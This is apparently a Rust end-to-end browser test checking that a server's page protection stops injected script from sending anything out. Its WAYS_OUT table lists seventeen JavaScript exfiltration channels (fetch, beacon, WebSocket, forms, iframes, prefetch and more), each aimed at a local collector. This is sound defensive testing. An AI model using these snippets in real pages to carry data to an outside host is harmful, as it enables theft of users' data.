//! Script that got in cannot carry anything out: row 82.

use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context as _, Result};
use axum::http::{HeaderValue, StatusCode};
use e2e::browser::Browser;
use e2e::proxy::{Answer, Asked, Proxy, Seen, Tamper};
use e2e::server::Server;
use e2e::wait::{until, within};

use crate::altered::{altered, is_page, without_protection};

/// Takes what it is given, and permits everything that a server can permit.
struct Collector;

impl Tamper for Collector {
    fn request(&self, asked: &mut Asked) -> Option<Answer> {
        let kind = if asked.path.contains("event") { "text/event-stream" } else { "text/html" };
        let mut answer = Answer::own(StatusCode::OK, kind, "");
        for (name, value) in [
            ("access-control-allow-origin", "*"),
            ("access-control-allow-headers", "*"),
            ("cross-origin-resource-policy", "cross-origin"),
            ("cross-origin-embedder-policy", "require-corp"),
        ] {
            answer.headers.insert(name, HeaderValue::from_static(value));
        }
        Some(answer)
    }
}

/// Every way out that a page has short of leaving, each with its own path at the collector `C`. No policy of a page can
/// stop its own navigation to another address; the threat model says so.
const WAYS_OUT: &[(&str, &str)] = &[
    ("fetch", "await fetch(C + '/fetch', { mode: 'no-cors' })"),
    ("post", "await fetch(C + '/post', { method: 'POST', body: 'x', mode: 'no-cors' })"),
    ("xhr", "const x = new XMLHttpRequest(); x.open('GET', C + '/xhr'); x.send()"),
    ("socket", "new WebSocket(C.replace('http', 'ws') + '/socket')"),
    ("event", "new EventSource(C + '/event')"),
    ("beacon", "navigator.sendBeacon(C + '/beacon', 'x')"),
    ("image", "new Image().src = C + '/image'"),
    ("style", "document.body.style.backgroundImage = `url(${C}/style)`"),
    ("sheet", "add('link', { rel: 'stylesheet', href: C + '/sheet' })"),
    ("font", "await new FontFace('f', `url(${C}/font)`).load()"),
    ("frame", "add('iframe', { src: C + '/frame' })"),
    ("script", "add('script', { src: C + '/script' })"),
    (
        "form",
        "const f = add('form', { action: C + '/form', method: 'post', target: add('iframe', { name: 'sink' }).name }); f.submit()",
    ),
    ("prefetch", "add('link', { rel: 'prefetch', href: C + '/prefetch' })"),
    ("preload", "add('link', { rel: 'preload', as: 'image', href: C + '/preload' })"),
    ("media", "add('video', { src: C + '/media' }).load()"),
    ("object", "add('object', { data: C + '/object' })"),
];

const START: &str = "const C = 'COLLECTOR'; \
    const add = (tag, set) => { const e = Object.assign(document.createElement(tag), set); document.body.append(e); return e }; ";

async fn try_all(browser: &Browser, collector: &str) -> Result<()> {
    for (name, script) in WAYS_OUT {
        // In a timer, because what DevTools evaluates is bound less; whatever is thrown is a way out that is shut.
        let script = format!(
            "setTimeout(async () => {{ try {{ {}{script} }} catch {{}} done(true) }})",
            START.replace("COLLECTOR", collector)
        );
        browser.run_async(&script).await.context(*name)?;
    }
    Ok(())
}

fn arrived(collector: &Proxy) -> BTreeSet<String> {
    let name = |path: &str| path.trim_start_matches('/').to_owned();
    let seen = collector.seen().into_iter();
    let arrived = seen.filter_map(|each| match each {
        Seen::Http(asked, _) => Some(name(&asked.path)),
        Seen::Opened(_, path) => Some(name(&path)),
        Seen::ToServer(..) | Seen::ToEnd(..) => None,
    });
    arrived.filter(|path| path != "favicon.ico").collect()
}

#[tokio::test]
async fn t082_nothing_can_be_carried_out() -> Result<()> {
    let server = Server::start().await?;
    let browser = Browser::start().await?;
    let all: BTreeSet<String> = WAYS_OUT.iter().map(|(name, _)| (*name).to_owned()).collect();

    // Control: without protection every way is open, and the collector sees each.
    let loose = altered(&server, |asked, mut answer| {
        if is_page(asked) {
            without_protection(&mut answer);
        }
        Some(answer)
    })
    .await?;
    let collector = Proxy::start(0, "http://127.0.0.1:1", Arc::new(Collector)).await?;
    browser.go(&loose.url()).await?;
    browser.screen("enter").await?;
    try_all(&browser, &collector.url()).await?;
    until("everything arrives at the collector", async || (arrived(&collector) == all).then_some(()))
        .await
        .with_context(|| format!("missing: {:?}", all.difference(&arrived(&collector)).collect::<Vec<_>>()))?;

    let collector = Proxy::start(0, "http://127.0.0.1:1", Arc::new(Collector)).await?;
    browser.go(&server.url()).await?;
    browser.screen("enter").await?;
    try_all(&browser, &collector.url()).await?;
    // The page still answers after all attempts, and each was reported as a violation or refused before that.
    browser.screen("enter").await?;
    let leaked = within(Duration::from_secs(2), "", async || {
        let arrived = arrived(&collector);
        (!arrived.is_empty()).then_some(arrived)
    });
    assert!(leaked.await.is_err(), "{:?}", arrived(&collector));
    Ok(())
}
